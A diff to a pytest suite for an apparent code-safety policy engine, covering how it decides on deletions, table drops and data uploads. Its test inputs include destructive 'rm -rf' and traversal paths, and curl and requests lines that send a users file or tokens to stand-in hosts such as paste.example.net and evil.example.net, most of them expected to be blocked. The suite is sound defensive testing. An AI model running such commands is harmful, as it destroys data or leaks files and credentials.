@@ -29,10 +29,11 @@ VALID = sorted((FIXTURES / "valid").glob("*.yaml"))
 
 def op(rule: str = "sql.drop-table", category: str = "destructive", language: str = "sql",
        targets: tuple[str, ...] = ("analytics.events",), path: str = "etl/job.sql", severity: str = "high",
-       scratch: bool = False, **details: str) -> Operation:
+       scratch: bool = False, kind: str = "", **details: str) -> Operation:
+    """An operation as a front end reports it; ``kind`` "" leaves the target kind to the catalogue."""
     return Operation(rule=rule, category=category, severity=severity, language=language,
                      location=Location(path, 3, 1), message="m", targets=targets, scratch=scratch,
-                     details=make_details(**details))
+                     details=make_details(**details), target_kind=kind)
 
 
 def write(tmp_path: Path, text: str, name: str = ".execgate.yaml") -> Path:
@@ -46,14 +47,21 @@ def write(tmp_path: Path, text: str, name: str = ".execgate.yaml") -> Path:
 
 @pytest.mark.parametrize("path", INVALID, ids=lambda p: p.stem)
 def test_invalid_policy_names_file_line_and_key(path: Path) -> None:
-    expected = re.match(r"# expect-error: (\d+): (.*)", path.read_text().splitlines()[0])
-    assert expected, f"{path} needs an '# expect-error: LINE: text' first line"
+    """Every problem is reported, in file order, each on one line with file, line and key; the
+    message is the first, saying how many more there are."""
+    wanted = re.findall(r"^\s*# expect-error: (\d+): (.*)$", path.read_text(), re.MULTILINE)
+    assert wanted, f"{path} needs '# expect-error: LINE: text' lines"
     with pytest.raises(PolicyError) as info:
         load_policy(path)
     message = str(info.value)
     assert "\n" not in message
-    assert message.startswith(f"{_shown(path)}:{expected.group(1)}: "), message
-    assert expected.group(2) in message
+    assert message.startswith(f"{_shown(path)}:{wanted[0][0]}: ") and wanted[0][1] in message, message
+    assert len(info.value.problems) == len(wanted), info.value.problems
+    for (line, text), problem in zip(wanted, info.value.problems, strict=True):
+        assert "\n" not in problem
+        assert problem.startswith(f"{_shown(path)}:{line}: ") and text in problem, problem
+    if len(wanted) > 1:
+        assert message.endswith(f"(and {len(wanted) - 1} more problems)")
 
 
 @pytest.mark.parametrize("path", VALID, ids=lambda p: p.stem)
@@ -249,36 +257,66 @@ def test_evasion_in_prod_only_warns_when_fail_open(tmp_path: Path) -> None:
     assert policy.decide(evasion, Context(environment="prod")).action == "warn"
 
 
-# -- scratch -------------------------------------------------------------------------
+# -- scratch: each kind of target its own patterns ----------------------------------------
+
+
+SCRATCH_POLICY = ('extends: none\nsensitive_tables: ["*.users"]\n'
+                  'scratch: {tables: ["tmp_*", "scratch.*"], paths: ["/tmp/**", "build/**"]}\n')
 
 
 @pytest.mark.parametrize("target, kind, scratch", [
-    ("tmp_load", None, True),
-    ("TMP_Load", None, True),
+    ("tmp_load", "table", True),
+    ("TMP_Load", "table", True),
     ('"tmp_load"', "table", True),
-    ("scratch.events", None, True),
-    ("db.scratch.events", None, False),
-    ("scratch.users", None, False),        # sensitive wins over scratch
-    ("analytics.events", None, False),
-    ("/tmp/build", None, True),
-    ("/tmp/a/b/c", None, True),
-    ("/tmp", None, False),                  # the folder itself is not under it
-    ("/tmp/../etc", None, False),
-    ("/tmp/x/../../etc/passwd", None, False),
-    ("tmp/x", None, False),                 # relative tmp/ is not /tmp/
-    ("build/cache", None, True),
-    ("./build/cache", None, True),
-    ("/srv/build/cache", None, False),      # absolute paths only match absolute patterns
-    ("build/../src", None, False),
-    ("/tmp/$DIR", None, False),             # a variable may hold ../
-    ("/tmp/`id`", None, False),
-    ("~/.cache/x", None, False),
-    ("/var/tmp/x", None, True),
+    ("scratch.events", "table", True),
+    ("db.scratch.events", "table", False),
+    ("scratch.users", "table", False),        # sensitive wins over scratch
+    ("analytics.events", "table", False),
+    ("tmp_restore", "database", True),         # the named containers of a database read scratch.tables
+    ("tmp_stage", "schema", True),
+    ("tmp_events", "collection", True),
+    ("tmp_load", "path", False),               # a folder named tmp_load is not a temporary table
+    ("tmp_load", "bucket", False),             # nor is a bucket, a host, or a target of unknown kind
+    ("tmp_load", "host", False),
+    ("tmp_load", "", False),
+    ("/tmp/build", "path", True),
+    ("/tmp/a/b/c", "path", True),
+    ("/tmp", "path", False),                   # the folder itself is not under /tmp/**
+    ("/tmp/../etc", "path", False),
+    ("/tmp/x/../../etc/passwd", "path", False),
+    ("tmp/x", "path", False),                  # relative tmp/ is not /tmp/
+    ("build", "path", True),                   # a relative folder pattern covers the folder itself
+    ("build/", "path", True),
+    ("./build", "path", True),
+    ("build/cache", "path", True),
+    ("./build/cache", "path", True),
+    ("build/*.whl", "path", True),
+    ("build/../src", "path", False),
+    ("buildings", "path", False),
+    ("build*", "path", False),
+    ("/srv/build/cache", "path", False),       # absolute paths only match absolute patterns
+    ("~/build", "path", False),
+    ("$OUT/build", "path", False),             # a variable may be empty or hold ../
+    ("/tmp/$DIR", "path", False),
+    ("/tmp/`id`", "path", False),
+    ("dbfs:/build", "path", False),
+    ("/tmp/x", "table", False),                # /tmp/** is about paths
+    ("/tmp/x", "table|path", True),            # either: written as a path, it is one
+    ("tmp_x", "table|path", True),             # else it is a table
+    ("build", "table|path", False),
+    ("tmp_x", "resource|table", True),
+    ("s3://tmp_x/y", "resource|table", False),
 ])
-def test_scratch(tmp_path: Path, target: str, kind: str | None, scratch: bool) -> None:
-    policy = load_policy(write(tmp_path, 'sensitive_tables: ["*.users"]\n'
-                                         'scratch: {tables: ["scratch.*"], paths: ["build/**"]}\n'))
+def test_scratch(tmp_path: Path, target: str, kind: str, scratch: bool) -> None:
+    policy = load_policy(write(tmp_path, SCRATCH_POLICY))
     assert policy.is_scratch(target, kind) is scratch
+
+
+def test_a_negated_scratch_pattern_keeps_what_it_names(tmp_path: Path) -> None:
+    policy = load_policy(write(tmp_path, 'extends: none\nscratch: {paths: ["build/**", "!build/keep.txt"]}\n'))
+    assert policy.is_scratch("build/cache", "path") is True
+    assert policy.is_scratch("build", "path") is False        # would remove build/keep.txt
+    assert policy.is_scratch("build/keep.txt", "path") is False
 
 
 def test_destructive_is_allowed_only_when_every_target_is_scratch() -> None:
@@ -288,6 +326,423 @@ def test_destructive_is_allowed_only_when_every_target_is_scratch() -> None:
     assert policy.decide(op(targets=()), Context()).action == "block"
     assert policy.decide(op("shell.rm-recursive", language="shell", targets=("/tmp/../etc",)), Context()).action \
         == "block"
+
+
+def test_an_unresolved_target_is_never_scratch() -> None:
+    # The front end could not read the value: the text is an expression, whatever it looks like.
+    policy = load_policy()
+    rmtree = op("py.fs-delete-tree", language="python", targets=("build",))
+    assert policy.decide(rmtree, Context()).action == "allow"
+    for resolved in ("no", "partial"):
+        assert policy.decide(op("py.fs-delete-tree", language="python", targets=("build",), resolved=resolved),
+                             Context()).action == "block"
+
+
+# -- target kinds ------------------------------------------------------------------------------
+
+
+def test_every_target_kind_in_the_catalogue_is_known() -> None:
+    from analyzer.catalogue import load_catalogue
+    from analyzer.model import TARGET_KINDS
+
+    catalogue = load_catalogue()
+    kinds = {rule_id: catalogue.target_kind(rule_id) for rule_id in catalogue.rules}
+    assert {k for kind in kinds.values() if kind for k in kind.split("|")} <= set(TARGET_KINDS)
+    # Removals are about paths, SQL about tables unless the rule says otherwise, data leaves for hosts.
+    assert kinds["py.fs-delete-tree"] == kinds["shell.rm-recursive"] == kinds["shell.find-delete"] == "path"
+    assert kinds["sql.drop-table"] == kinds["sql.truncate"] == "table"
+    assert kinds["sql.drop-database"] == "database" and kinds["shell.dropdb"] == "database"
+    assert kinds["py.exfil-request"] == kinds["shell.exfil-upload"] == "host"
+    assert catalogue.target_kind("semgrep.team-rule", "python") == ""
+
+
+@pytest.mark.parametrize("language, code, rule, kind", [
+    ("sql", "DROP TABLE analytics.events;\n", "sql.drop-table", "table"),
+    ("sql", "DROP DATABASE analytics;\n", "sql.drop-database", "database"),
+    ("shell", "rm -rf /srv/data\n", "shell.rm-recursive", "path"),
+    ("python", "import shutil\nshutil.rmtree('/srv/data')\n", "py.fs-delete-tree", "path"),
+    ("python", "import requests\nrequests.post('https://x.example.net/', data=open('a.csv').read())\n",
+     "py.exfil-request", "host"),
+])
+def test_the_engine_gives_each_operation_its_target_kind(language: str, code: str, rule: str, kind: str) -> None:
+    import json
+
+    from analyzer.reporters import json_report
+
+    report = Checker(load_policy(), Context()).check_text(code, language, "x")
+    assert [(f.operation.rule, f.operation.target_kind) for f in report.findings] == [(rule, kind)]
+    assert json.loads(json_report.render(report))["findings"][0]["target_kind"] == kind
+
+
+@pytest.mark.parametrize("language, code, action", [
+    # No policy: tmp_* is a table pattern; a folder named tmp_backups is not scratch.
+    ("shell", "rm -rf tmp_backups\n", "block"),
+    ("python", "import shutil\nshutil.rmtree('tmp_backups')\n", "block"),
+    ("sql", "DROP TABLE tmp_backups;\n", "allow"),
+    ("shell", "rm -rf /tmp/backups\n", "allow"),
+])
+def test_scratch_tables_are_for_tables_and_scratch_paths_for_paths(language: str, code: str, action: str) -> None:
+    report = Checker(load_policy(), Context()).check_text(code, language, "x")
+    assert [f.action for f in report.findings] == [action]
+
+
+@pytest.mark.parametrize("language, code, action", [
+    ("shell", "rm -rf build\n", "allow"),
+    ("shell", "rm -rf build/\n", "allow"),
+    ("shell", "rm -rf ./build\n", "allow"),
+    ("python", "import shutil\nshutil.rmtree('build')\n", "allow"),
+    ("shell", "rm -rf build/../src\n", "block"),
+    ("python", "import shutil\nshutil.rmtree('build/../src')\n", "block"),
+    ("shell", "rm -rf buildings\n", "block"),
+    ("shell", "rm -rf /build\n", "block"),
+])
+def test_a_scratch_folder_pattern_covers_the_folder(tmp_path: Path, language: str, code: str, action: str) -> None:
+    policy = load_policy(write(tmp_path, 'extends: none\nscratch: {paths: ["build/**"]}\n'))
+    report = Checker(policy, Context()).check_text(code, language, "x")
+    assert [f.action for f in report.findings] == [action]
+
+
+# -- several targets: each decided, the strictest counts -----------------------------------------
+
+
+MULTI = """\
+rules:
+  - id: shell.rm-recursive
+    action: allow
+    when: {target: [node_modules, dist, build]}
+  - id: "sql.drop-table"
+    action: allow
+    when: {target: ["staging.*"]}
+  - id: "sql.truncate"
+    action: block
+    reason: production tables are never emptied
+    when: {target: ["prod.*"]}
+  - id: "sql.delete-all"
+    action: warn
+    when: {target: ["staging.*"]}
+"""
+
+
+@pytest.mark.parametrize("operation, action, origin, named", [
+    # an allow rule's target condition must hold for every target
+    (op("shell.rm-recursive", language="shell", targets=("dist", "/")), "block", "built-in:destructive", "/"),
+    (op("shell.rm-recursive", language="shell", targets=("dist", "build")), "allow", "yaml:2", None),
+    (op("shell.rm-recursive", language="shell", targets=("./dist/",)), "allow", "yaml:2", None),
+    (op("shell.rm-recursive", language="shell", targets=("dist/../../etc",)), "block", "built-in:destructive", None),
+    (op(targets=("staging.a", "prod.users")), "block", "built-in:destructive", "prod.users"),
+    (op(targets=("staging.a", "staging.b")), "allow", "yaml:5", None),
+    # another allow (scratch) covers the rest
+    (op("shell.rm-recursive", language="shell", targets=("dist", "/tmp/x")), "allow", "yaml:2", None),
+    (op(targets=("staging.a", "tmp_a")), "allow", "yaml:5", None),
+    # a block rule applies when any target matches
+    (op("sql.truncate", targets=("tmp_a", "prod.users")), "block", "yaml:8", "prod.users"),
+    (op("sql.truncate", targets=("tmp_a", "tmp_b")), "allow", "built-in:scratch", None),
+    # warn and allow: warn
+    (op("sql.delete-all", targets=("staging.orders", "tmp_a")), "warn", "yaml:12", "staging.orders"),
+])
+def test_each_target_is_decided_and_the_strictest_counts(tmp_path: Path, operation: Operation, action: str,
+                                                        origin: str, named: str | None) -> None:
+    decision = load_policy(write(tmp_path, MULTI)).decide(operation, Context())
+    assert decision.action == action, decision
+    assert decision.policy_rule.endswith(origin), decision
+    if named is not None:
+        assert decision.reason.startswith(f"target {named}: "), decision.reason
+
+
+def test_a_multi_target_sql_statement_end_to_end(tmp_path: Path) -> None:
+    checker = Checker(load_policy(write(tmp_path, MULTI)), Context())
+    blocked = checker.check_text("DROP TABLE staging.a, prod.users;\n", "sql", "x.sql").findings
+    assert [(f.action, f.decision.reason) for f in blocked] == \
+        [("block", "target prod.users: destructive operations block by default")]
+    allowed = checker.check_text("DROP TABLE staging.a, staging.b;\n", "sql", "x.sql").findings
+    assert [f.action for f in allowed] == ["allow"]
+
+
+def test_every_target_allowed_says_why_for_each(tmp_path: Path) -> None:
+    decision = load_policy(write(tmp_path, MULTI)).decide(op(targets=("staging.a", "tmp_a")), Context())
+    assert decision.reason.startswith("every target is allowed (staging.a: ") and "tmp_a: tmp_a matches" in \
+        decision.reason
+
+
+# -- calm defaults: regenerable output, routine artifacts, one named file -------------------------
+
+
+def _strict(tmp_path: Path) -> Policy:
+    return load_policy(write(tmp_path, "extends: strict\n", "strict.yaml"))
+
+
+REGENERABLE = ["node_modules", "dist", "build", "target", ".venv", "venv", "__pycache__", ".pytest_cache",
+               ".mypy_cache", ".ruff_cache", ".tox", ".nox", "htmlcov", "coverage", "pkg.egg-info", ".next",
+               ".parcel-cache", ".gradle", "./dist/", "web/node_modules", "src/pkg/__pycache__", "build/lib",
+               "**/*.pyc", "*.pyc", "src/a.pyo", "obj/main.o", "classes/App.class"]
+NOT_REGENERABLE = ["/srv/app/node_modules", "~/node_modules", "../dist", "$OUT/dist", "${DIR}/build",
+                   "src/build", "docs/dist", "build-scripts", ".terraform", "*.log", "app.tmp", "*", "./**", ".",
+                   "src", "data", "dist/../src", "node_modules/../../etc"]
+
+
+@pytest.mark.parametrize("target", REGENERABLE)
+def test_regenerable_output_is_scratch_by_default_and_not_under_strict(tmp_path: Path, target: str) -> None:
+    removal = op("shell.rm-recursive", language="shell", targets=(target,), scope="bulk")
+    decision = load_policy().decide(removal, Context())
+    assert (decision.action, decision.policy_rule) == ("allow", "built-in:scratch"), decision
+    assert _strict(tmp_path).decide(removal, Context()).action == "block"
+
+
+@pytest.mark.parametrize("target", NOT_REGENERABLE)
+def test_what_is_not_regenerable_output_still_blocks(target: str) -> None:
+    removal = op("shell.rm-recursive", language="shell", targets=(target,), scope="bulk")
+    assert load_policy().decide(removal, Context()).action == "block"
+
+
+def test_temporary_folders_are_scratch_in_both_profiles(tmp_path: Path) -> None:
+    removal = op("shell.rm-recursive", language="shell", targets=("/tmp/run-1",), scope="bulk")
+    assert load_policy().decide(removal, Context()).action == "allow"
+    assert _strict(tmp_path).decide(removal, Context()).action == "allow"
+
+
+def test_find_delete_of_compiled_files_is_routine() -> None:
+    pyc = op("shell.find-delete", language="shell", targets=("./**/*.pyc",), scope="bulk")
+    everything = op("shell.find-delete", language="shell", targets=("./**",), scope="bulk")
+    logs = op("shell.find-delete", language="shell", targets=("./**/*.log",), scope="bulk")
+    assert load_policy().decide(pyc, Context()).action == "allow"
+    assert load_policy().decide(everything, Context()).action == "block"
+    assert load_policy().decide(logs, Context()).action == "block"
+
+
+def _remove(target: str, scope: str | None = "single", rule: str = "py.fs-delete", **details: str) -> Operation:
+    language = "python" if rule.startswith("py.") else "shell"
+    extra = {"scope": scope} if scope else {}
+    return op(rule, language=language, targets=(target,), **extra, **details)
+
+
+@pytest.mark.parametrize("target", ["notes.txt", "./notes.txt", "src/old_module.py", "docs/draft.md",
+                                    "out/report.html", "Makefile.bak2"])
+def test_removing_one_named_file_inside_the_project_is_routine(tmp_path: Path, target: str) -> None:
+    for rule in ("py.fs-delete", "shell.rm-file"):
+        decision = load_policy().decide(_remove(target, rule=rule), Context())
+        assert (decision.action, decision.policy_rule) == ("allow", "built-in:routine-removal"), decision
+        assert "routine" in decision.reason and target in decision.reason
+    assert _strict(tmp_path).decide(_remove(target), Context()).action == "block"
+
+
+@pytest.mark.parametrize("target, why", [
+    ("data.db", "data file"), ("var/app.sqlite3", "data file"), ("warehouse.duckdb", "data file"),
+    ("exports/2024.parquet", "data file"), ("frame.feather", "data file"), ("t.arrow", "data file"),
+    ("model.h5", "data file"), ("nightly.dump", "data file"), ("config.bak", "data file"),
+    ("customers.csv", "data file"), (".env", "data file"), ("deploy.pem", "data file"),
+    (".git/HEAD", "data file"), ("terraform.tfstate", "data file"),
+    ("/etc/hosts", "outside the project"), ("~/notes.txt", "outside the project"),
+    ("../notes.txt", "outside the project"), ("a/../../notes.txt", "outside the project"),
+    ("$HOME/notes.txt", "not known"), ("{out}/notes.txt", "not known"), ("*.txt", "pattern"),
+])
+def test_one_named_file_that_is_data_or_outside_the_project_stays_destructive(target: str, why: str) -> None:
+    decision = load_policy().decide(_remove(target), Context())
+    assert (decision.action, decision.policy_rule) == ("block", "built-in:destructive"), decision
+    assert why in decision.reason and target in decision.reason
+
+
+@pytest.mark.parametrize("removal", [
+    _remove("notes.txt", scope="bulk"),                    # a glob, a loop over a listing, a tree
+    _remove("notes.txt", scope=None),                      # a front end that does not say
+    _remove("notes.txt", resolved="no"),                   # `os.remove(notes)`: a name, not a path
+    _remove("out/notes.txt", resolved="partial"),
+    op("py.fs-delete", language="python", targets=("notes.txt",), scope="single", kind="table"),  # not a path
+    op("semgrep.team-rule", language="python", targets=("notes.txt",), scope="single"),  # kind unknown
+])
+def test_single_file_routine_needs_a_known_single_named_path(removal: Operation) -> None:
+    assert load_policy().decide(removal, Context()).action == "block"
+
+
+def test_data_paths_keep_more_files_out_of_routine(tmp_path: Path) -> None:
+    policy = load_policy(write(tmp_path, 'data_paths: ["ledger/**", "*.xml"]\n'))
+    assert policy.decide(_remove("ledger/2024.txt"), Context()).action == "block"
+    assert policy.decide(_remove("feed.xml"), Context()).action == "block"
+    assert policy.decide(_remove("notes.txt"), Context()).action == "allow"
+    assert load_policy().decide(_remove("ledger/2024.txt"), Context()).action == "allow"
+
+
+@pytest.mark.parametrize("code, action", [
+    ("import os\nos.remove('notes.txt')\n", "allow"),
+    ("import os\nos.remove('data.db')\n", "block"),
+    ("import os\nos.remove('/etc/notes.txt')\n", "block"),
+    ("import os\ndef f(p):\n    os.remove(p)\n", "block"),
+])
+def test_single_file_removal_end_to_end(code: str, action: str) -> None:
+    report = Checker(load_policy(), Context()).check_text(code, "python", "x.py")
+    assert [f.action for f in report.findings] == [action]
+
+
+# -- exfiltration means data leaves -------------------------------------------------------------------
+
+
+def _send(host: str = "hooks.example.net", **details: str) -> Operation:
+    return op("shell.exfil-upload", "exfiltration", "shell", targets=(host,), host=host, **details)
+
+
+@pytest.mark.parametrize("operation, action, origin", [
+    (_send(source="@users.csv", payload="data"), "block", "built-in:exfiltration"),
+    (_send(payload="constant"), "warn", "built-in:egress"),
+    (_send(), "block", "built-in:exfiltration"),                              # nobody said it is constant
+    (_send(payload="data"), "block", "built-in:exfiltration"),
+    (_send(payload="constant", source="query result"), "block", "built-in:exfiltration"),
+    (_send("api.corp.example.com", source="@users.csv"), "allow", "built-in:allowed-hosts"),
+    (op("py.exfil-request", "exfiltration", "python", targets=(), sink="requests.post", payload="constant"),
+     "warn", "built-in:egress"),                                               # host unknown: unlisted
+])
+def test_data_from_a_source_blocks_and_a_constant_payload_warns(tmp_path: Path, operation: Operation,
+                                                               action: str, origin: str) -> None:
+    policy = load_policy(write(tmp_path, 'allowed_hosts: ["*.corp.example.com"]\n'))
+    decision = policy.decide(operation, Context())
+    assert (decision.action, decision.policy_rule) == (action, origin), decision
+    if action == "warn":
+        assert decision.reason.startswith("egress to an unlisted host")
+
+
+def test_a_policy_can_raise_egress_to_block(tmp_path: Path) -> None:
+    policy = load_policy(write(tmp_path, 'rules:\n  - {id: "*", action: block, reason: no egress in prod, '
+                                         'when: {builtin: [egress], environment: [prod]}}\n'))
+    constant = _send(payload="constant")
+    assert policy.decide(constant, Context(environment="prod")) == \
+        Decision("block", "no egress in prod", f"{policy.source}:2")
+    assert policy.decide(constant, Context(environment="dev")).action == "warn"
+    # the rule is about egress only: allowed hosts and loopback stay allowed in prod
+    assert policy.decide(_send("localhost", source="@a.csv"), Context(environment="prod")).action == "allow"
+    assert policy.decide(_send(source="@a.csv"), Context(environment="prod")).policy_rule == \
+        "built-in:exfiltration"
+
+
+@pytest.mark.parametrize("host", ["localhost", "http://localhost:8000/up", "127.0.0.1", "127.1", "127.9.9.9",
+                                  "http://[::1]:8080/", "LOCALHOST.", "ip6-localhost", "2130706433",
+                                  "http://[::ffff:127.0.0.1]/"])
+def test_loopback_is_never_an_exfiltration_target(tmp_path: Path, host: str) -> None:
+    for policy in (load_policy(), _strict(tmp_path)):
+        decision = policy.decide(_send(host, source="@users.csv", payload="data"), Context(environment="prod"))
+        assert (decision.action, decision.policy_rule) == ("allow", "built-in:loopback"), decision
+        assert "loopback" in decision.reason
+
+
+@pytest.mark.parametrize("host", ["localhost.evil.example", "http://localhost@evil.example/", "128.0.0.1",
+                                  "10.0.0.1", "localhost.example.com", "http://127.0.0.1.nip.io/", "0x7f.evil"])
+def test_what_only_looks_like_loopback_is_not(host: str) -> None:
+    decision = load_policy().decide(_send(host, source="@users.csv", payload="data"), Context())
+    assert decision.action == "block"
+
+
+def _token(host: str = "https://api.github.com", credential: str = "GITHUB_TOKEN", carrier: str = "auth",
+           **details: str) -> Operation:
+    values = {"payload": "constant", "source": f"the secret ${credential}", **details}
+    return op("shell.exfil-secret", "exfiltration", "shell", targets=(host,), host=host, credential=credential,
+              carrier=carrier, **{k: v for k, v in values.items() if v})
+
+
+@pytest.mark.parametrize("operation, action, says", [
+    (_token(), "allow", "authentication"),
+    (_token("uploads.github.com"), "allow", "authentication"),
+    (_token("https://api.openai.com/v1/x", "OPENAI_API_KEY"), "allow", "authentication"),
+    (_token("https://x.s3.amazonaws.com", "AWS_ACCESS_KEY_ID,AWS_SECRET_ACCESS_KEY",
+            source="the secret $AWS_ACCESS_KEY_ID, the secret $AWS_SECRET_ACCESS_KEY"), "allow", "authentication"),
+    (_token(source=""), "allow", "authentication"),
+    # the same token elsewhere, or carried where it is data
+    (_token("https://evil.example.net"), "block", "not its own service"),
+    (_token("https://api.github.com.evil.example.net"), "block", "not its own service"),
+    (_token("https://api.openai.com", "GITHUB_TOKEN"), "block", "not its own service"),
+    (_token(carrier="body"), "block", "travels in the body"),
+    (_token(carrier="query"), "block", "travels in the query"),
+    (_token(carrier="url"), "block", "travels in the url"),
+    (_token(carrier="auth,body"), "block", "travels in the auth and body"),
+    (_token(carrier=""), "block", "travels in the payload"),
+    # more than the credential travels, or nobody said what else does
+    (_token(source="the secret $GITHUB_TOKEN, query result"), "block", "data other than"),
+    (_token(payload="data"), "block", "data other than"),
+    (_token(payload=""), "block", "data other than"),
+    # a credential execgate does not know the service of, used to authenticate: egress
+    (_token("https://status.acme.example", "STATUS_TOKEN"), "warn", "egress to an unlisted host"),
+    (_token("https://status.acme.example", "STATUS_TOKEN", carrier="body"), "block", "travels in the body"),
+    (_token("https://evil.example.net", "STATUS_TOKEN,GITHUB_TOKEN"), "block", "not its own service"),
+])
+def test_a_credential_sent_to_its_own_service_is_authentication(operation: Operation, action: str,
+                                                                says: str) -> None:
+    decision = load_policy().decide(operation, Context())
+    assert decision.action == action, decision
+    assert says in decision.reason, decision.reason
+
+
+def test_strict_blocks_every_egress_but_loopback_and_allowed_hosts(tmp_path: Path) -> None:
+    strict = load_policy(write(tmp_path, 'extends: strict\nallowed_hosts: ["*.corp.example.com"]\n'))
+    assert strict.decide(_send(payload="constant"), Context()).action == "block"
+    assert strict.decide(_token(), Context()).action == "block"
+    assert strict.decide(_token("https://status.acme.example", "STATUS_TOKEN"), Context()).action == "block"
+    assert strict.decide(_send("api.corp.example.com", source="@a.csv"), Context()).action == "allow"
+    assert strict.decide(_send("localhost", source="@a.csv"), Context()).action == "allow"
+    assert strict.decide(_send(payload="constant"), Context()).policy_rule.startswith("built-in:strict:")
+
+
+@pytest.mark.parametrize("language, code, action", [
+    ("python", "import requests\nrequests.post('http://localhost:8000/x', data=open('users.csv').read())\n",
+     "allow"),
+    ("python", "import requests\nrequests.post('http://127.0.0.1:8000/x', data=open('users.csv').read())\n",
+     "allow"),
+    ("python", "import requests\nrequests.post('https://paste.example.net/x', data=open('users.csv').read())\n",
+     "block"),
+    ("shell", "curl -d @users.csv http://localhost:8000/up\n", "allow"),
+    ("shell", "curl -d @users.csv https://paste.example.net/up\n", "block"),
+    ("shell", "curl -X POST -d 'deploy finished' https://hooks.example.net/notify\n", "warn"),
+])
+def test_loopback_and_constant_payloads_end_to_end(language: str, code: str, action: str) -> None:
+    report = Checker(load_policy(), Context()).check_text(code, language, "x")
+    assert [f.action for f in report.findings] == [action]
+
+
+# -- profiles and the built-in outcomes ------------------------------------------------------------
+
+
+def test_the_profiles_differ_only_where_they_say(tmp_path: Path) -> None:
+    default, strict = load_policy(write(tmp_path, "extends: default\n")), _strict(tmp_path)
+    assert default.scratch_tables == strict.scratch_tables
+    assert set(strict.scratch_paths) < set(default.scratch_paths)
+    assert all(p.startswith("/") for p in strict.scratch_paths)
+    assert default.rules == [] and {r.action for r in strict.rules} == {"block"}
+    assert all(r.origin.startswith("built-in:strict:") for r in strict.rules)
+    # a project's rules come first, so a strict project can still allow what it means to
+    relaxed = load_policy(write(tmp_path, 'extends: strict\nrules:\n'
+                                          '  - {id: "*", action: allow, when: {builtin: [routine-removal]}}\n'))
+    assert relaxed.decide(_remove("notes.txt"), Context()).action == "allow"
+    assert relaxed.decide(_remove("data.db"), Context()).action == "block"
+
+
+@pytest.mark.parametrize("profile", ["default", "strict"])
+def test_the_builtin_profiles_validate_against_the_schema(profile: str) -> None:
+    from analyzer.policy.load import builtin_policy_path, parse_yaml, validate
+
+    text = builtin_policy_path(profile).read_text(encoding="utf-8")
+    data, lines = parse_yaml(text, profile)
+    validate(data, lines, profile)
+
+
+def test_the_schema_names_every_builtin_outcome() -> None:
+    import json
+
+    from analyzer.policy.rules import BUILTIN_OUTCOMES
+
+    schema = json.loads((Path(__file__).parent.parent / "analyzer" / "policy" / "policy.schema.json").read_text())
+    assert schema["definitions"]["builtinOutcome"]["enum"] == list(BUILTIN_OUTCOMES)
+
+
+def test_every_builtin_decision_is_a_named_outcome(tmp_path: Path) -> None:
+    from analyzer.policy.rules import BUILTIN_OUTCOMES
+
+    policy = load_policy(write(tmp_path, 'allowed_hosts: ["*.corp.example.com"]\nsensitive_tables: ["billing.*"]\n'))
+    operations = [op(), op(targets=("tmp_a",)), _remove("notes.txt"), _remove("data.db"), _send(payload="constant"),
+                  _send(source="x"), _send("localhost"), _send("a.corp.example.com"),
+                  _send("a.corp.example.com", source="billing.invoices"), _token(),
+                  op("py.evasion-dynamic-exec", "evasion", "python"), op("sql.drop-user", "privilege"),
+                  op("shell.secret-read", "secrets", "shell"), op("execgate.suppression-unused", "evasion", "any")]
+    seen = set()
+    for environment in (None, "prod"):
+        for operation in operations:
+            decision = policy.decide(operation, Context(environment=environment))
+            seen.add(decision.policy_rule.removeprefix("built-in:"))
+    assert seen == set(BUILTIN_OUTCOMES)
 
 
 # -- hosts ---------------------------------------------------------------------------
